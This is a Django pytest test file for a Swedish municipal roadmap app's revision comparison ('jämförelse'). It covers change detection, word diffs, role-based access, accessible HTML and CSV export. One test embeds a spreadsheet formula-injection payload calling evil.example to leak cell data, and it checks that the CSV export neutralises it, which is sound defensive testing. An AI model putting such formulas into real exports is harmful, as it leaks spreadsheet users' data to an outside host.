"""The redline (jämförelse): what changed between two revisions, and who may see it.

The scenario: a small approved revision for 2024, and the 2025 draft started
from it, in which an editor makes one change of every kind.
"""

import csv
import io
import re
import uuid
from dataclasses import dataclass
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from roadmap.models import (
    CityAction,
    FocusArea,
    NationalInitiative,
    Need,
    NextStep,
    Organisation,
    Revision,
    TimeHorizon,
)
from roadmap.redline import (
    REDLINE_CSV_COLUMNS,
    ChangeKind,
    DiffSegment,
    ItemType,
    NoBaseRevisionError,
    revision_compare,
    word_diff,
)
from roadmap.services import positions_make_room, revision_approve, revision_start, revision_submit
from tests.builders import build_tree
from tests.factories import (
    CityActionFactory,
    FocusAreaFactory,
    NationalInitiativeFactory,
    NeedFactory,
    NextStepFactory,
    RevisionFactory,
    approve,
)
from tests.helpers import parse_html

# --- Scenario ----------------------------------------------------------------------

FA_STEERING = "Ändamålsenlig organisation och styrning"
FA_STAFF = "Personal med rätt kompetens och bra arbetsförhållanden"
NEED_STEERING = "Tydlig styrning och ledning"
NEED_REGION = "Samverkan med regionen"
NEED_SKILLS = "Kompetensförsörjning"
NEED_WORK = "Goda arbetsförhållanden"

MODEL_OLD = "Ta fram en gemensam modell för uppföljning av hemtjänsten"
MODEL_NEW = "Ta fram en gemensam modell för uppföljning av hemtjänst och dagverksamhet"
MODEL_REASON = "Omfattar nu även dagverksamheten."
DEMENTIA = "Utreda behovet av en samordnare för demensvården"
DEMENTIA_REASON = "Hör hemma i samverkan med regionen."
DISCHARGE = "Samordna utskrivningsprocessen med regionen"
DISCHARGE_REASON = "Genomfört under 2024."
SKILLS_REASON = "Kompetensförsörjning är en styrningsfråga."
MENTOR = "Införa ett mentorsprogram för nyanställda"
MENTOR_REASON = "Nytt uppdrag i budgeten för 2025."
HOURLY = "Minska andelen timanställda"
HOURLY_NOTE = "ingår i kompetensförsörjningsplanen"
GRANT = "Statsbidrag för äldreomsorgslyftet"
FOLLOW_UP = "Stadsdelsnämnderna följer upp hemtjänstens kvalitet"


def _horizons(*codes: str) -> list[TimeHorizon]:
    return [TimeHorizon.objects.get(code=code) for code in codes]


def _organisations(*codes: str) -> list[Organisation]:
    return [Organisation.objects.get(code=code) for code in codes]


@dataclass
class Scenario:
    base: Revision
    draft: Revision
    ids: dict[str, uuid.UUID]  # lineage ids by a short name

    def draft_row(self, model, name: str):
        return model.objects.get(revision=self.draft, lineage_id=self.ids[name])


def _build_base(year: int) -> tuple[Revision, dict[str, uuid.UUID]]:
    """The 2024 revision, in review (built with the factories), then approved."""
    revision = RevisionFactory(year=year)
    fa_steering = FocusAreaFactory(revision=revision, position=1, title=FA_STEERING)
    fa_staff = FocusAreaFactory(revision=revision, position=2, title=FA_STAFF)
    n_steering = NeedFactory(focus_area=fa_steering, position=1, title=NEED_STEERING)
    n_region = NeedFactory(focus_area=fa_steering, position=2, title=NEED_REGION)
    n_skills = NeedFactory(focus_area=fa_staff, position=1, title=NEED_SKILLS)
    n_work = NeedFactory(focus_area=fa_staff, position=2, title=NEED_WORK)
    rows = {
        "fa_steering": fa_steering,
        "fa_staff": fa_staff,
        "n_steering": n_steering,
        "n_region": n_region,
        "n_skills": n_skills,
        "n_work": n_work,
        "sou": NationalInitiativeFactory(
            need=n_steering, position=1, text="SOU 2020:47 Hållbar socialtjänst"
        ),
        "grant": NationalInitiativeFactory(need=n_steering, position=2, text=GRANT),
        "follow_up": CityActionFactory(
            need=n_steering,
            position=1,
            text=FOLLOW_UP,
            responsible_organisations=_organisations("aldrenamnden"),
        ),
        "model": NextStepFactory(
            need=n_steering,
            position=1,
            text=MODEL_OLD,
            horizons=_horizons("short"),
            responsible_organisations=_organisations("aldrenamnden"),
        ),
        "dementia": NextStepFactory(
            need=n_steering, position=2, text=DEMENTIA, horizons=_horizons("medium")
        ),
        "discharge": NextStepFactory(
            need=n_region, position=1, text=DISCHARGE, horizons=_horizons("short", "ongoing")
        ),
        "skills": NextStepFactory(
            need=n_skills,
            position=1,
            text="Erbjuda fler vårdbiträden utbildning till undersköterska",
            horizons=_horizons("long"),
        ),
        "hourly": NextStepFactory(
            need=n_work, position=1, text=HOURLY, horizons=_horizons("medium")
        ),
    }
    approve(revision)
    return revision, {name: row.lineage_id for name, row in rows.items()}


@pytest.fixture
def base(reference_data) -> tuple[Revision, dict[str, uuid.UUID]]:
    return _build_base(2024)


@pytest.fixture
def unchanged_draft(base, editor) -> Scenario:
    """The 2025 draft just after it was started: a copy of 2024."""
    revision, ids = base
    return Scenario(base=revision, draft=revision_start(actor=editor, year=2025), ids=ids)


@pytest.fixture
def scenario(unchanged_draft) -> Scenario:
    """The 2025 draft with one change of every kind."""
    s = unchanged_draft

    # Changed text and re-timed, with a reason.
    model = s.draft_row(NextStep, "model")
    model.text = MODEL_NEW
    model.change_reason = MODEL_REASON
    model.save()
    model.horizons.set(_horizons("medium", "ongoing"))

    # A step moved to another need.
    dementia = s.draft_row(NextStep, "dementia")
    dementia.need = s.draft_row(Need, "n_region")
    dementia.position = 2
    dementia.change_reason = DEMENTIA_REASON
    dementia.save()

    # A need moved to another focus area: its step does not count as moved.
    skills = s.draft_row(Need, "n_skills")
    skills.focus_area = s.draft_row(FocusArea, "fa_steering")
    skills.position = 3
    skills.change_reason = SKILLS_REASON
    skills.save()

    # Re-timed by its horizon note only; no reason given.
    hourly = s.draft_row(NextStep, "hourly")
    hourly.horizon_note = HOURLY_NOTE
    hourly.save()

    # New responsibility: Kommunstyrelsen as well, and all the districts.
    follow_up = s.draft_row(CityAction, "follow_up")
    follow_up.all_districts = True
    follow_up.save()
    follow_up.responsible_organisations.set(_organisations("aldrenamnden", "ks"))

    # A new step.
    mentor = NextStepFactory(
        need=s.draft_row(Need, "n_work"),
        position=2,
        text=MENTOR,
        change_reason=MENTOR_REASON,
        horizons=_horizons("short"),
        responsible_organisations=_organisations("aldrenamnden"),
    )
    s.ids["mentor"] = mentor.lineage_id

    # A retired step, and a deleted national initiative.
    discharge = s.draft_row(NextStep, "discharge")
    discharge.retired = True
    discharge.change_reason = DISCHARGE_REASON
    discharge.save()
    s.draft_row(NationalInitiative, "grant").delete()
    return s


def _summary(redline) -> dict[str, int]:
    return {str(kind): count for kind, count in redline.summary.items() if count}


def _changes(redline) -> list[tuple[str, str, uuid.UUID, str, str]]:
    """(kind, item type, lineage id, details, reason) for every row, in order."""
    return [
        (
            row["kind"],
            row["item_type"],
            uuid.UUID(row["lineage_id"]),
            row["details"],
            row["reason"],
        )
        for row in redline.rows()
    ]


def _from_to(old: str, new: str) -> str:
    return gettext("from: %(old)s to: %(new)s") % {"old": old, "new": new}


def _expected_changes(s: Scenario) -> list[tuple[str, str, uuid.UUID, str, str]]:
    """The hand-checked redline of the scenario, in page order, in the active language."""
    ids = s.ids
    all_districts = gettext("all district committees")
    return [
        # Focus area 1, need 1: the removed initiative stands where it stood.
        ("removed", "national_initiative", ids["grant"], "", ""),
        (
            "responsibility",
            "city_action",
            ids["follow_up"],
            f"Äldrenämnden → Äldrenämnden, Kommunstyrelsen, {all_districts}",
            "",
        ),
        ("changed", "next_step", ids["model"], "", MODEL_REASON),
        ("retimed", "next_step", ids["model"], "Kort sikt → Medellång sikt, löpande", MODEL_REASON),
        # Focus area 1, need 2: the retired step first (its old place), then the moved one.
        ("removed", "next_step", ids["discharge"], "", DISCHARGE_REASON),
        (
            "moved",
            "next_step",
            ids["dementia"],
            _from_to(NEED_STEERING, NEED_REGION),
            DEMENTIA_REASON,
        ),
        # Focus area 1, need 3: the need itself moved here; its step did not move.
        ("moved", "need", ids["n_skills"], _from_to(FA_STAFF, FA_STEERING), SKILLS_REASON),
        # Focus area 2, need 4.
        (
            "retimed",
            "next_step",
            ids["hourly"],
            f"Medellång sikt → Medellång sikt ({HOURLY_NOTE})",
            "",
        ),
        ("added", "next_step", ids["mentor"], "", MENTOR_REASON),
    ]


# --- The comparison ----------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "sv"])
def test_redline_reports_every_kind_of_change_with_its_reason(scenario, language):
    with translation.override(language):
        redline = revision_compare(old=scenario.base, new=scenario.draft)
        assert _changes(redline) == _expected_changes(scenario)
    assert _summary(redline) == {
        "added": 1,
        "removed": 2,
        "changed": 1,
        "moved": 2,
        "retimed": 2,
        "responsibility": 1,
    }


def test_redline_details_read_plainly_in_english(scenario):
    with translation.override("en"):
        rows = revision_compare(old=scenario.base, new=scenario.draft).rows()
        details = [row["details"] for row in rows if row["details"]]
    assert details == [
        "Äldrenämnden → Äldrenämnden, Kommunstyrelsen, all district committees",
        "Kort sikt → Medellång sikt, löpande",
        f"from: {NEED_STEERING} to: {NEED_REGION}",
        f"from: {FA_STAFF} to: {FA_STEERING}",
        f"Medellång sikt → Medellång sikt ({HOURLY_NOTE})",
    ]


def test_default_comparison_is_against_the_revision_it_is_based_on(scenario):
    default = revision_compare(new=scenario.draft)
    assert default.old == scenario.base
    assert default.rows() == revision_compare(old=scenario.base, new=scenario.draft).rows()


def test_a_revision_based_on_nothing_has_no_default_comparison(base):
    revision, _ids = base
    with pytest.raises(NoBaseRevisionError):
        revision_compare(new=revision)


def test_redline_is_grouped_by_focus_area_and_need_in_the_new_order(scenario):
    redline = revision_compare(old=scenario.base, new=scenario.draft)
    assert [(fa.title, [need.title for need in fa.needs]) for fa in redline.focus_areas] == [
        (FA_STEERING, [NEED_STEERING, NEED_REGION, NEED_SKILLS]),
        (FA_STAFF, [NEED_WORK]),
    ]
    steering, staff = redline.focus_areas
    assert steering.change is None and staff.change is None
    n_steering, n_region, n_skills = steering.needs
    assert n_steering.change is None
    assert [item.item_type for item in n_steering.items] == [
        ItemType.NATIONAL_INITIATIVE,
        ItemType.CITY_ACTION,
        ItemType.NEXT_STEP,
    ]
    assert [item.text for item in n_region.items] == [DISCHARGE, DEMENTIA]
    assert n_skills.change.kinds == (ChangeKind.MOVED,)
    assert n_skills.items == ()  # its step moved with it, which is not a move of the step
    (n_work,) = staff.needs
    assert [item.text for item in n_work.items] == [HOURLY, MENTOR]


def test_one_item_can_have_several_kinds_of_change(scenario):
    redline = revision_compare(old=scenario.base, new=scenario.draft)
    model = redline.focus_areas[0].needs[0].items[2]
    assert model.lineage_id == scenario.ids["model"]
    assert model.kinds == (ChangeKind.CHANGED, ChangeKind.RETIMED)
    assert (model.old_text, model.new_text, model.reason) == (MODEL_OLD, MODEL_NEW, MODEL_REASON)
    retimed = model.by_kind["retimed"]
    assert (retimed.old, retimed.new) == ("Kort sikt", "Medellång sikt, löpande")


def test_changed_text_carries_a_word_diff(scenario):
    redline = revision_compare(old=scenario.base, new=scenario.draft)
    model = redline.focus_areas[0].needs[0].items[2]
    assert model.by_kind["changed"].diff == (
        DiffSegment("equal", "Ta fram en gemensam modell för uppföljning av"),
        DiffSegment("delete", "hemtjänsten"),
        DiffSegment("insert", "hemtjänst och dagverksamhet"),
    )


def test_word_diff_splits_on_whitespace_and_keeps_word_order():
    assert word_diff(
        "Utreda  behovet av korttidsboende i Bromma",
        "Utreda och tillgodose behovet av korttidsboende i hela staden",
    ) == (
        DiffSegment("equal", "Utreda"),
        DiffSegment("insert", "och tillgodose"),
        DiffSegment("equal", "behovet av korttidsboende i"),
        DiffSegment("delete", "Bromma"),
        DiffSegment("insert", "hela staden"),
    )
    assert word_diff("Samma text", "Samma  text") == (DiffSegment("equal", "Samma text"),)
    assert word_diff("", "Ny text") == (DiffSegment("insert", "Ny text"),)


def test_identical_revisions_give_an_empty_redline(unchanged_draft):
    redline = revision_compare(old=unchanged_draft.base, new=unchanged_draft.draft)
    assert redline.is_empty
    assert redline.focus_areas == ()
    assert redline.rows() == []
    assert set(redline.summary.values()) == {0}
    assert list(redline.summary) == list(ChangeKind)


def test_a_revision_compared_with_itself_is_empty(scenario):
    assert revision_compare(old=scenario.draft, new=scenario.draft).is_empty


def test_lineage_not_text_decides_which_items_correspond(unchanged_draft):
    """Two steps that swap their texts are two changed steps, not two moves."""
    s = unchanged_draft
    model = s.draft_row(NextStep, "model")
    dementia = s.draft_row(NextStep, "dementia")
    model.text, dementia.text = dementia.text, model.text
    model.save()
    dementia.save()

    redline = revision_compare(old=s.base, new=s.draft)
    assert [(kind, lineage) for kind, _type, lineage, _d, _r in _changes(redline)] == [
        ("changed", s.ids["model"]),
        ("changed", s.ids["dementia"]),
    ]
    model_change, dementia_change = redline.focus_areas[0].needs[0].items
    assert (model_change.old_text, model_change.new_text) == (MODEL_OLD, DEMENTIA)
    assert (dementia_change.old_text, dementia_change.new_text) == (DEMENTIA, MODEL_OLD)


def test_position_only_changes_are_not_reported(unchanged_draft):
    s = unchanged_draft
    model = s.draft_row(NextStep, "model")
    dementia = s.draft_row(NextStep, "dementia")
    positions_make_room(changed=[model, dementia], deleted=[])
    model.position, dementia.position = 2, 1
    model.save()
    dementia.save()
    assert revision_compare(old=s.base, new=s.draft).is_empty


def test_whitespace_only_edits_are_not_changes(unchanged_draft):
    s = unchanged_draft
    model = s.draft_row(NextStep, "model")
    model.text = MODEL_OLD.replace(" ", "  ") + " "
    model.save()
    assert revision_compare(old=s.base, new=s.draft).is_empty


def test_retired_on_both_sides_is_nothing_and_a_revived_item_is_added(unchanged_draft, editor):
    """Retired in 2025 and carried as retired to 2026: no change 2025→2026;
    retired in 2025 and active again in 2026: added."""
    s = unchanged_draft
    discharge = s.draft_row(NextStep, "discharge")
    discharge.retired = True
    discharge.change_reason = DISCHARGE_REASON
    discharge.save()
    later = RevisionFactory(year=2026, based_on=s.draft)
    fa = FocusAreaFactory(revision=later, position=1, title=FA_STEERING)
    fa.lineage_id = s.ids["fa_steering"]
    fa.save()
    # Copy the 2025 tree by hand is not needed: compare just this branch.
    need = NeedFactory(focus_area=fa, position=1, title=NEED_REGION, lineage_id=s.ids["n_region"])
    step = NextStepFactory(
        need=need,
        position=1,
        text=DISCHARGE,
        horizons=_horizons("short", "ongoing"),
        lineage_id=s.ids["discharge"],
        retired=True,
        change_reason=DISCHARGE_REASON,
    )
    rows = revision_compare(old=s.draft, new=later).rows()
    assert s.ids["discharge"] not in {uuid.UUID(r["lineage_id"]) for r in rows}

    step.retired = False
    step.change_reason = "Återupptas."
    step.save()
    rows = revision_compare(old=s.draft, new=later).rows()
    assert ("added", "Återupptas.") in {
        (r["kind"], r["reason"]) for r in rows if uuid.UUID(r["lineage_id"]) == s.ids["discharge"]
    }


def test_focus_areas_and_needs_are_group_level_changes(unchanged_draft):
    s = unchanged_draft
    staff = s.draft_row(FocusArea, "fa_staff")
    staff.title = "Personal med rätt kompetens"
    staff.change_reason = "Kortare rubrik."
    staff.save()
    # A retired need takes its steps with it, with the need's reason.
    work = s.draft_row(Need, "n_work")
    work.retired = True
    work.change_reason = "Ingår nu i kompetensförsörjningen."
    work.save()
    # A new focus area with a new need and step, before the others.
    positions_make_room(
        changed=[s.draft_row(FocusArea, "fa_steering"), staff],
        deleted=[],
    )
    for name, position in (("fa_steering", 2), ("fa_staff", 3)):
        row = s.draft_row(FocusArea, name)
        row.position = position
        row.save()
    digital = FocusAreaFactory(
        revision=s.draft, position=1, title="Digitalisering", change_reason="Ny prioritering."
    )
    need = NeedFactory(focus_area=digital, position=1, title="Välfärdsteknik")
    step = NextStepFactory(need=need, position=1, text="Inför digital tillsyn")

    redline = revision_compare(old=s.base, new=s.draft)
    groups = [
        (
            fa.title,
            fa.change.kinds if fa.change else (),
            [
                (n.title, n.change.kinds if n.change else (), [i.kinds for i in n.items])
                for n in fa.needs
            ],
        )
        for fa in redline.focus_areas
    ]
    assert groups == [
        (
            "Digitalisering",
            (ChangeKind.ADDED,),
            [("Välfärdsteknik", (ChangeKind.ADDED,), [(ChangeKind.ADDED,)])],
        ),
        (
            "Personal med rätt kompetens",
            (ChangeKind.CHANGED,),
            [(NEED_WORK, (ChangeKind.REMOVED,), [(ChangeKind.REMOVED,)])],
        ),
    ]
    assert [
        (r["kind"], r["item_type"], r["focus_area"], r["need"], r["reason"]) for r in redline.rows()
    ] == [
        ("added", "focus_area", "Digitalisering", "", "Ny prioritering."),
        ("added", "need", "Digitalisering", "Välfärdsteknik", ""),
        ("added", "next_step", "Digitalisering", "Välfärdsteknik", ""),
        ("changed", "focus_area", "Personal med rätt kompetens", "", "Kortare rubrik."),
        (
            "removed",
            "need",
            "Personal med rätt kompetens",
            NEED_WORK,
            "Ingår nu i kompetensförsörjningen.",
        ),
        (
            "removed",
            "next_step",
            "Personal med rätt kompetens",
            NEED_WORK,
            "Ingår nu i kompetensförsörjningen.",
        ),
    ]
    assert redline.rows()[2]["lineage_id"] == str(step.lineage_id)


def test_removed_focus_area_stays_in_its_old_place(unchanged_draft):
    s = unchanged_draft
    steering = s.draft_row(FocusArea, "fa_steering")
    steering.retired = True
    steering.change_reason = "Ersätts av de strategiska prioriteringarna."
    steering.save()
    hourly = s.draft_row(NextStep, "hourly")
    hourly.text = HOURLY + " inom hemtjänsten"
    hourly.save()

    redline = revision_compare(old=s.base, new=s.draft)
    assert [fa.title for fa in redline.focus_areas] == [FA_STEERING, FA_STAFF]
    removed = redline.focus_areas[0]
    assert removed.change.kinds == (ChangeKind.REMOVED,)
    assert removed.change.reason == "Ersätts av de strategiska prioriteringarna."
    assert [n.title for n in removed.needs] == [NEED_STEERING, NEED_REGION]
    assert _summary(redline) == {"removed": 1 + 2 + 6, "changed": 1}


def test_comparison_costs_a_fixed_number_of_queries(scenario, django_assert_num_queries):
    # Two trees of eight queries each; nothing per item.
    with django_assert_num_queries(16):
        redline = revision_compare(old=scenario.base, new=scenario.draft)
        redline.rows()


# --- The pages ---------------------------------------------------------------------


def _url(year: int, *, old: int | None = None, csv_file: bool = False) -> str:
    url = reverse("roadmap:redline_csv" if csv_file else "roadmap:redline", args=[year])
    return f"{url}?mot={old}" if old is not None else url


def test_urls():
    assert _url(2025) == "/revisioner/2025/jamforelse/"
    assert _url(2025, old=2023, csv_file=True) == "/revisioner/2025/jamforelse.csv?mot=2023"


@pytest.fixture
def published(scenario, editor, approver) -> Scenario:
    """The scenario's draft submitted and approved: 2025 approved, 2024 superseded."""
    revision_submit(revision=scenario.draft, actor=editor)
    revision_approve(
        revision=scenario.draft,
        actor=approver,
        decision_body=Organisation.objects.get(code="kf"),
        decision_date=date(2025, 3, 1),
        case_number="KS 2025/17",
    )
    scenario.base.refresh_from_db()
    scenario.draft.refresh_from_db()
    assert scenario.base.status == Revision.Status.SUPERSEDED
    assert scenario.draft.status == Revision.Status.APPROVED
    return scenario


@pytest.mark.parametrize("who", ["editor", "approver"])
def test_editors_and_approvers_see_the_redline_of_a_draft(who, scenario, request, client_for):
    response = client_for(request.getfixturevalue(who)).get(_url(2025))
    assert response.status_code == 200
    assert response.context["old"] == scenario.base
    assert _changes(response.context["redline"]) == _expected_changes(scenario)


@pytest.mark.parametrize("who", ["reader", "bromma_reporter", "farsta_reporter"])
def test_draft_redline_is_hidden_from_readers_and_reporters(who, scenario, request, client_for):
    client = client_for(request.getfixturevalue(who))
    assert client.get(_url(2025)).status_code == 404
    assert client.get(_url(2025, csv_file=True)).status_code == 404


@pytest.mark.parametrize("who", ["reader", "bromma_reporter", "farsta_reporter"])
def test_every_role_reads_the_redline_of_approved_against_superseded(
    who, published, request, client_for
):
    client = client_for(request.getfixturevalue(who))
    for url in (_url(2025), _url(2025, old=2024)):
        response = client.get(url)
        assert response.status_code == 200, url
        assert _changes(response.context["redline"]) == _expected_changes(published)
    assert client.get(_url(2025, csv_file=True)).status_code == 200


def test_reader_cannot_compare_against_a_draft(published, editor, reader, client_for):
    revision_start(actor=editor, year=2026)
    assert client_for(reader).get(_url(2025, old=2026)).status_code == 404
    assert client_for(editor).get(_url(2025, old=2026)).status_code == 200


def test_anonymous_visitor_is_sent_to_login(published, anonymous, client_for):
    client = client_for(anonymous)
    for url in (_url(2025), _url(2025, csv_file=True)):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"] == f"{reverse('login')}?next={url}"


def test_user_without_a_role_is_refused(published, no_role_user, client_for):
    client = client_for(no_role_user)
    for url in (_url(2025), _url(2025, csv_file=True)):
        response = client.get(url)
        assert response.status_code == 403, url
        assert MODEL_NEW not in response.content.decode()


def test_unknown_years_are_not_found(published, reader, client_for):
    client = client_for(reader)
    assert client.get(_url(1999)).status_code == 404
    assert client.get(_url(2025, old=1999)).status_code == 404
    assert client.get("/revisioner/2025/jamforelse/?mot=tjugo").status_code == 404
    assert client.get(_url(1999, csv_file=True)).status_code == 404


def test_without_an_earlier_revision_the_page_says_so(base, reader, client_for):
    response = client_for(reader).get(_url(2024))
    assert response.status_code == 200
    assert response.context["redline"] is None
    content = response.content.decode()
    no_base = gettext(
        "This revision is not based on an earlier revision, so there is nothing to compare it with."
    )
    assert no_base in content
    assert "jamforelse.csv" not in content
    assert client_for(reader).get(_url(2024, csv_file=True)).status_code == 404


def test_identical_revisions_say_there_are_no_differences(unchanged_draft, editor, client_for):
    response = client_for(editor).get(_url(2025))
    assert response.status_code == 200
    assert gettext("There are no differences between the two revisions.") in (
        response.content.decode()
    )


def _text(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", html)).strip()


def test_redline_page_is_accessible_and_in_swedish(scenario, editor, client_for):
    response = client_for(editor).get(_url(2025))
    html = parse_html(response.content)
    content = response.content.decode()

    assert ("html", {"lang": "sv"}) in html.tags
    ids = [attrs["id"] for _tag, attrs in html.tags if "id" in attrs]
    assert len(ids) == len(set(ids)), "every id on the page is unique"
    assert len(html.text["h1"]) == 1
    assert "2024" in html.text["h1"][0] and "2025" in html.text["h1"][0]
    assert [h.strip() for h in html.text["h2"]] == [FA_STEERING, FA_STAFF]
    h3 = [_text(h) for h in re.findall(r"<h3[^>]*>(.*?)</h3>", content, re.S)]
    assert h3 == [NEED_STEERING, NEED_REGION, NEED_SKILLS, NEED_WORK]

    # The summary table: a caption, headers with scope, one row per kind.
    assert html.text["caption"][0].strip() == gettext("Summary of changes")
    summary = re.search(r'<table class="redline-summary">.*?</table>', content, re.S).group(0)
    rows = re.findall(r'<th scope="row">(.*?)</th><td>(\d+)</td>', summary)
    assert rows == [
        (gettext("Added"), "1"),
        (gettext("Removed"), "2"),
        (gettext("Changed"), "1"),
        (gettext("Moved"), "2"),
        (gettext("Re-timed"), "2"),
        (gettext("Responsibility changed"), "1"),
    ]

    # Every change is a list item with the kind as text, and its reason.
    items = re.findall(r'<li class="redline-change[^"]*"[^>]*>(.*?)</li>', content, re.S)
    assert len(items) == 8
    model = _text(next(i for i in items if "gemensam modell" in i))
    assert f"{gettext('Changed')}, {gettext('Re-timed')}" in model
    assert f"{gettext('Reason:')} {MODEL_REASON}" in model
    hourly = _text(next(i for i in items if HOURLY in i))
    assert f"{gettext('Reason:')} {gettext('Not stated')}" in hourly

    # The word diff is in <del> and <ins>, each with a label for screen readers.
    assert (
        '<del><span class="visually-hidden">'
        f"{gettext('Deleted text:')} </span>hemtjänsten"
        f'<span class="visually-hidden"> {gettext("End of deleted text.")}</span></del>'
    ) in content
    assert (
        '<ins><span class="visually-hidden">'
        f"{gettext('Inserted text:')} </span>hemtjänst och dagverksamhet"
        f'<span class="visually-hidden"> {gettext("End of inserted text.")}</span></ins>'
    ) in content
    assert "Ta fram en gemensam modell för uppföljning av <del>" in content

    # A link to the CSV of the same comparison.
    assert f'href="{_url(2025, old=2024, csv_file=True)}"' in content


def test_csv_has_one_row_per_item_and_kind(scenario, editor, client_for):
    response = client_for(editor).get(_url(2025, csv_file=True))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="jamforelse-2024-2025.csv"'
    assert response.content.startswith("\ufeff".encode())

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == REDLINE_CSV_COLUMNS
    data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [
        (r["kind"], r["item_type"], uuid.UUID(r["lineage_id"]), r["details"], r["reason"])
        for r in data
    ] == _expected_changes(scenario)
    assert [(r["focus_area"], r["need"], r["old_text"], r["new_text"]) for r in data] == [
        (FA_STEERING, NEED_STEERING, GRANT, ""),
        (FA_STEERING, NEED_STEERING, FOLLOW_UP, FOLLOW_UP),
        (FA_STEERING, NEED_STEERING, MODEL_OLD, MODEL_NEW),
        (FA_STEERING, NEED_STEERING, MODEL_OLD, MODEL_NEW),
        (FA_STEERING, NEED_REGION, DISCHARGE, ""),
        (FA_STEERING, NEED_REGION, DEMENTIA, DEMENTIA),
        (FA_STEERING, NEED_SKILLS, NEED_SKILLS, NEED_SKILLS),
        (FA_STAFF, NEED_WORK, HOURLY, HOURLY),
        (FA_STAFF, NEED_WORK, "", MENTOR),
    ]


def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(scenario, editor, client_for):
    formula = '=HYPERLINK("https://evil.example/?d="&A1;"Klicka här")'
    model = scenario.draft_row(NextStep, "model")
    model.text = formula
    model.change_reason = "@SUM(1+1)"
    model.save()
    response = client_for(editor).get(_url(2025, csv_file=True))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    model_rows = [r for r in rows if r["new_text"].endswith('"Klicka här")')]
    assert model_rows
    for row in model_rows:
        assert row["new_text"] == "'" + formula
        assert row["reason"] == "'@SUM(1+1)"
        assert row["old_text"] == MODEL_OLD
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values()
    )


def test_csv_compares_against_the_chosen_year(published, editor, reader, client_for):
    response = client_for(reader).get(_url(2025, old=2025, csv_file=True))
    assert response["Content-Disposition"] == 'attachment; filename="jamforelse-2025-2025.csv"'
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines == [",".join(REDLINE_CSV_COLUMNS)]


# --- What the page costs -----------------------------------------------------------


def _build_sized(year: int, focus_areas: int) -> Revision:
    """An approved revision: per focus area two needs, each with an initiative,
    a city action and two next steps."""
    revision = RevisionFactory(year=year)
    build_tree(
        revision,
        focus_areas=focus_areas,
        needs=2,
        initiatives=1,
        city_actions=1,
        next_steps=2,
        horizons=_horizons("short"),
        organisations=_organisations("aldrenamnden"),
    )
    return approve(revision)


def _edit_every_need(draft: Revision) -> None:
    """In every need: change a step's text and re-time it, give the other a new
    responsibility, and retire the city action."""
    for need in Need.objects.filter(revision=draft):
        first, second = NextStep.objects.filter(need=need).order_by("position")
        first.text += " och följa upp det"
        first.change_reason = "Förtydligat."
        first.save()
        first.horizons.set(_horizons("medium"))
        second.all_districts = True
        second.save()
        action = CityAction.objects.get(need=need)
        action.retired = True
        action.change_reason = "Klart."
        action.save()


def _count_page_queries(client, url: str) -> tuple[int, dict[str, int]]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries), _summary(response.context["redline"])


def test_query_count_does_not_grow_with_the_roadmap(
    reference_data, editor, approver, client_for, capsys
):
    client = client_for(editor)

    _build_sized(2040, focus_areas=1)
    small = revision_start(actor=editor, year=2041)
    _edit_every_need(small)
    client.get(_url(2041))  # warm up: session, content types
    small_count, small_summary = _count_page_queries(client, _url(2041))

    # Out of the way: approve the small draft, so that a new one can be started.
    revision_submit(revision=small, actor=editor)
    revision_approve(
        revision=small,
        actor=approver,
        decision_body=Organisation.objects.get(code="kf"),
        decision_date=date(2041, 1, 1),
        case_number="KS 2041/1",
    )
    _build_sized(2050, focus_areas=10)
    large = revision_start(actor=editor, year=2051)
    _edit_every_need(large)
    large_count, large_summary = _count_page_queries(client, _url(2051))

    with capsys.disabled():
        print(f"\nqueries for the redline page: 1× = {small_count}, 10× = {large_count}")
    # The pages really showed 1× and 10× the changes.
    assert small_summary == {"removed": 2, "changed": 2, "retimed": 2, "responsibility": 2}
    assert large_summary == {kind: 10 * count for kind, count in small_summary.items()}
    assert small_count == large_count
    assert large_count <= 25


def test_a_fresh_copy_of_the_2021_roadmap_has_no_changes(roadmap_2021, editor):
    draft = revision_start(actor=editor, year=2022)
    redline = revision_compare(new=draft)
    assert redline.old == roadmap_2021
    assert redline.is_empty


def test_renaming_a_need_does_not_move_its_items(unchanged_draft):
    s = unchanged_draft
    need = s.draft_row(Need, "n_steering")
    need.title = "Tydlig styrning"
    need.change_reason = "Kortare rubrik."
    need.save()
    redline = revision_compare(old=s.base, new=s.draft)
    assert _changes(redline) == [("changed", "need", s.ids["n_steering"], "", "Kortare rubrik.")]
    assert redline.focus_areas[0].needs[0].change.by_kind["changed"].diff == (
        DiffSegment("equal", "Tydlig styrning"),
        DiffSegment("delete", "och ledning"),
    )
